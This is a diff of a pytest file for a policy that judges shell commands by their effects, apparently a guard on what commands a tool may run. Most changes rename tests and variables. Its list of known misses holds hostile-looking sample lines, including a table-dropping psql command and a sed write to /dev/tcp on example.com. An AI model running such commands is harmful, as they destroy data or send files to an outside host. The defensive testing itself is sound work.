@@ -1,4 +1,5 @@
-"""What commands are taken for. commands.txt is the specification: real lines, hidden and quoted ones too."""
+"""How commands are judged. commands.txt is the specification: real lines, also with wrapped and quoted
+commands."""
 
 from __future__ import annotations
 
@@ -25,22 +26,22 @@ def judge(line: str) -> Judgement:
 
 
 def table() -> list[tuple[str, str]]:
-    found, class_ = [], ""
+    rows, class_ = [], ""
     for line in (Path(__file__).parent / "commands.txt").read_text().splitlines():
         if line.startswith("== "):
             class_ = line[3:].partition(":")[0]
         elif line and class_:
-            found.append((line.replace("⏎", "\n"), class_))
-    return found
+            rows.append((line.replace("⏎", "\n"), class_))
+    return rows
 
 
 TABLE = table()
 
 
 @pytest.mark.parametrize(("line", "expected"), TABLE, ids=[line[:60] for line, _ in TABLE])
-def test_a_line_is_taken_for_what_it_is(line: str, expected: str) -> None:
-    found = judge(line)
-    assert found.class_ == expected, (found.unseen, found.parts)
+def test_a_line_has_the_class_of_the_table(line: str, expected: str) -> None:
+    judgement = judge(line)
+    assert judgement.class_ == expected, (judgement.unseen, judgement.parts)
 
 
 def test_the_table_is_long_enough() -> None:
@@ -48,9 +49,9 @@ def test_the_table_is_long_enough() -> None:
     assert len(TABLE) == len({line for line, _ in TABLE})
 
 
-# ---- what is known to be missed ---------------------------------------------------------------------------
+# ---- known limits ------------------------------------------------------------------------------------------
 
-MISSES = {
+KNOWN_MISSES = {
     "git commit -m x": "a hook of the repository may run anything",
     "npm install": "packages run scripts when they are installed",
     "psql -c 'drop table users'": "PGHOST may have been exported earlier",
@@ -61,20 +62,20 @@ MISSES = {
     "true # && npm publish": "a shell without interactive_comments",
     "sed -n 'w /dev/tcp/example.com/80' x": "a file name that only the program sees",
 }
-"""Taken for harmless, and may not be: docs/limits.md has the same list."""
+"""Judged harmless, although they may not be: docs/limits.md has the same list."""
 
 
-@pytest.mark.parametrize("line", MISSES)
-def test_a_known_miss_is_one_and_is_written_down(line: str) -> None:
+@pytest.mark.parametrize("line", KNOWN_MISSES)
+def test_a_known_miss_is_one_and_is_documented(line: str) -> None:
     assert judge(line).class_ in (R, S), "no longer a miss: move it into the table, and out of docs/limits.md"
     limits = (Path(__file__).parents[2] / "docs" / "limits.md").read_text()
     assert f"`{line}`" in limits
 
 
-# ---- what a judgement says ---------------------------------------------------------------------------------
+# ---- the content of a judgement ----------------------------------------------------------------------------
 
 
-def only(line: str) -> dict[str, str]:
+def only_effect(line: str) -> dict[str, str]:
     (part,) = judge(line).outside
     return {"target": part.target, "key": part.key, "compensate": part.compensate, "why": part.why}
 
@@ -97,27 +98,27 @@ def only(line: str) -> dict[str, str]:
     ],
 )
 def test_an_effect_has_a_target(line: str, target: str) -> None:
-    assert only(line)["target"] == target
+    assert only_effect(line)["target"] == target
 
 
-def test_the_same_effect_has_the_same_key_however_it_is_written() -> None:
-    key = only("npm publish")["key"]
+def test_the_same_effect_has_the_same_key_in_any_notation() -> None:
+    key = only_effect("npm publish")["key"]
     assert key.startswith("publish-a-package:")
-    assert only("sudo env A=1 bash -c 'npm  publish'")["key"] == key
-    assert only("npm publish --tag next")["key"] != key
+    assert only_effect("sudo env A=1 bash -c 'npm  publish'")["key"] == key
+    assert only_effect("npm publish --tag next")["key"] != key
     assert POLICY.judge("npm publish", cwd="/elsewhere").outside[0].key != key
     assert (
-        only("curl -X POST https://api.example.com")["key"]
-        == only("cd /x; curl -X POST https://api.example.com")["key"]
+        only_effect("curl -X POST https://api.example.com")["key"]
+        == only_effect("cd /x; curl -X POST https://api.example.com")["key"]
     )
 
 
-def test_an_idempotency_key_that_the_request_carries_is_the_key() -> None:
+def test_the_idempotency_key_of_a_request_is_the_key() -> None:
     line = "curl -X POST -H 'Idempotency-Key: order-17' https://api.example.com/charges"
-    assert only(line)["key"] == "order-17"
+    assert only_effect(line)["key"] == "order-17"
 
 
-def test_what_goes_out_can_be_made_good_or_says_why_not() -> None:
+def test_an_effect_outside_can_be_compensated_or_has_a_reason() -> None:
     for line in (
         "git push origin x",
         "npm publish",
@@ -125,20 +126,20 @@ def test_what_goes_out_can_be_made_good_or_says_why_not() -> None:
         "kubectl apply -f x",
         "mail bob@example.com",
     ):
-        assert only(line)["compensate"], line
+        assert only_effect(line)["compensate"], line
     for line, class_ in TABLE:
         if class_ == I:
             assert all(part.why for part in judge(line).outside if part.class_ == I), line
 
 
-def test_the_worst_part_counts_and_unknown_is_never_safe() -> None:
+def test_the_worst_part_counts_and_unknown_is_not_safe() -> None:
     assert judge("ls; git push origin x; ./deploy.sh").class_ == U
     assert judge("./deploy.sh; npm publish").class_ == I
     assert judge("./deploy.sh; ls").decision == "record"
     assert judge("./deploy.sh; ls").unseen == ("what ./deploy.sh does",)
 
 
-def test_decisions_follow_the_classes_unless_a_rule_says_otherwise() -> None:
+def test_decisions_follow_the_classes_unless_a_rule_has_its_own() -> None:
     assert [
         judge(x).decision for x in ("ls", "rm x", "git push origin x", "git push origin main", "npm publish")
     ] == [
@@ -168,7 +169,7 @@ def own(text: str) -> Policy:
     return Policy(Rules(text, "policy.toml"))
 
 
-def test_own_rules_come_first_and_leave_the_rest_to_the_built_in_ones() -> None:
+def test_rules_of_the_user_come_before_the_built_in_ones() -> None:
     policy = own(
         """
         [decisions]
@@ -196,8 +197,8 @@ def test_own_rules_come_first_and_leave_the_rest_to_the_built_in_ones() -> None:
         """
     )
     assert policy.expires_seconds == 90
-    found = policy.judge("npm publish")
-    assert (found.class_, found.decision, found.why) == (I, "deny", "npm publish: CI does that")
+    judgement = policy.judge("npm publish")
+    assert (judgement.class_, judgement.decision, judgement.why) == (I, "deny", "npm publish: CI does that")
     assert policy.judge("git push origin x").decision == "allow"
     assert policy.judge("git push origin main").decision == "ask"
     assert policy.judge("curl -d x https://api.example.com").class_ == E
@@ -208,7 +209,7 @@ def test_own_rules_come_first_and_leave_the_rest_to_the_built_in_ones() -> None:
 
 
 @pytest.mark.parametrize(
-    ("text", "line", "said"),
+    ("text", "line", "message"),
     [
         ("a = ", 1, "no TOML"),
         ("[[rule]]\ncommand = 'x'\nclass = 'harmless'\n", 3, "harmless"),
@@ -222,16 +223,16 @@ def test_own_rules_come_first_and_leave_the_rest_to_the_built_in_ones() -> None:
         ("[[rule]]\ncommand = 'x'\ntypo = 1\nclass = 'unknown'\n", 1, "typo"),
     ],
 )
-def test_a_file_that_cannot_be_understood_names_line_and_reason(text: str, line: int, said: str) -> None:
+def test_an_invalid_file_is_refused_with_line_and_reason(text: str, line: int, message: str) -> None:
     with pytest.raises(PolicyBroken) as broken:
         Rules(text, "policy.toml")
-    assert said in broken.value.message
-    if "TOML" not in said:
+    assert message in broken.value.message
+    if "TOML" not in message:
         assert re.search(rf"line {line}\b", broken.value.message), broken.value.message
     assert "until then no command runs" in broken.value.hint
     with pytest.raises(PolicyBroken) as refused:
         check(text)
-    assert "nothing has changed" in refused.value.hint, "it was only offered: nothing is stopped by it"
+    assert "nothing has changed" in refused.value.hint, "it was only checked: commands still run"
 
 
 def test_the_built_in_rules_are_a_file_like_any_other() -> None:
@@ -239,7 +240,7 @@ def test_the_built_in_rules_are_a_file_like_any_other() -> None:
     assert Policy(Rules(built_in_text(), "a copy")).judge("npm publish").class_ == I
 
 
-# ---- any input at all ------------------------------------------------------------------------------
+# ---- arbitrary input -------------------------------------------------------------------------------
 
 SHELL = st.text(alphabet="git push\n\t|&;<>(){}[]$`'\"\\#*?!~=,-+%@^/abcEOF01é\x00", max_size=200)
 PIECES = st.lists(
@@ -268,18 +269,17 @@ PIECES = st.lists(
 @example("x" * 200_000)
 def test_any_line_is_judged_and_none_hangs(line: str) -> None:
     started = time.process_time()
-    found = judge(line)
-    assert found.class_ in CLASSES
+    assert judge(line).class_ in CLASSES
     assert time.process_time() - started < 20
 
 
 @settings(max_examples=200, deadline=None)
 @given(PIECES)
-def test_a_dangerous_command_is_not_made_safe_by_what_stands_before_it(before: str) -> None:
-    """bash itself says where a command ends: what it takes for complete cannot hide the next line."""
+def test_a_dangerous_command_is_found_after_any_complete_line(before: str) -> None:
+    """bash itself decides whether the text before it is complete."""
     checked = subprocess.run(["bash", "-n"], input=f"{before}\n".encode(), capture_output=True, check=False)
     assume(checked.returncode == 0 and not checked.stderr and not before.endswith("\\"))
-    found = judge(f"{before}\nnpm publish")
-    assert found.class_ in (I, U), found
-    if not found.unseen:
-        assert found.class_ == I
+    judgement = judge(f"{before}\nnpm publish")
+    assert judgement.class_ in (I, U), judgement
+    if not judgement.unseen:
+        assert judgement.class_ == I
